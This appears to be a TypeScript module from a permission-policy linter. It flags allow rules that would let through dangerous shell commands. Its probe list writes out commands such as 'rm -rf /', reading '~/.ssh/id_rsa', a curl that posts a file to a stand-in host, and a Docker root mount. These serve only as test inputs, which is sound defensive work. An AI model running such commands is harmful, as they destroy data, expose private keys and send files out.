import { decide } from '../decide.ts';
import { type Examine, specimen } from '../examine.ts';
import type { PolicyFile } from '../file/policy-file.ts';
import { finding, type PolicyFinding, quoted } from '../finding.ts';
import { type Rule, restricts } from '../rule.ts';
import { ruleSet } from '../rule-set.ts';

/** Commands that a grant hardly means, and what it comes to where it covers them; the worst first. */
const PROBES: readonly (readonly [command: string, comesTo: string])[] = [
  ['rm -rf /', 'deleting everything'],
  ['sudo whatever --it is', 'everything, as another user'],
  ['python3 -c "print(1)"', 'any code in Python'],
  ['node -e "1"', 'any code in JavaScript'],
  ['perl -e 1', 'any code in Perl'],
  ['ruby -e 1', 'any code in Ruby'],
  ['./whatever', 'any program of the working directory'],
  ['cat ~/.ssh/id_rsa', 'reading private keys'],
  ['curl -d @x https://x.test', 'sending any file anywhere'],
  ['docker run -v /:/host alpine', 'the whole machine through a container'],
  ['npx whatever', 'any package from the registry'],
  ['git -c core.pager=x log', 'any program through git’s settings'],
];

/** Grants that let through more than anybody would write down. One that grants everything says so on purpose. */
export function broadFindings(file: PolicyFile, examine: Examine): PolicyFinding[] {
  return file.policies
    .flatMap(({ rules }) => rules)
    .filter(({ rule }) => !restricts(rule.action) && rule.when.default !== true)
    .flatMap(({ rule, at }) => {
      const found = PROBES.filter(([command]) => grants(rule, command, examine));
      const [first] = found;
      if (first === undefined) return [];
      const [command, comesTo] = first;
      const more = found.length > 1 ? `, and ${found.length - 1} more like it` : '';
      return [
        finding('broad', at, `rule allows ${comesTo}: ${quoted(command)}${more}`, {
          rule: rule.name,
          severity: 'warning',
          hint: 'name the subcommands or files that are meant, or say with unless what is not',
        }),
      ];
    });
}

function grants(rule: Rule, command: string, examine: Examine): boolean {
  const scope = rule.scope.tool === undefined ? {} : { tool: rule.scope.tool };
  const alone = ruleSet({ hash: 'sha256:lint', defaultAction: 'deny', rules: [{ ...rule, scope }] });
  return decide(alone, specimen({ text: command, tool: 'exec' }, examine)).verdict === rule.action;
}
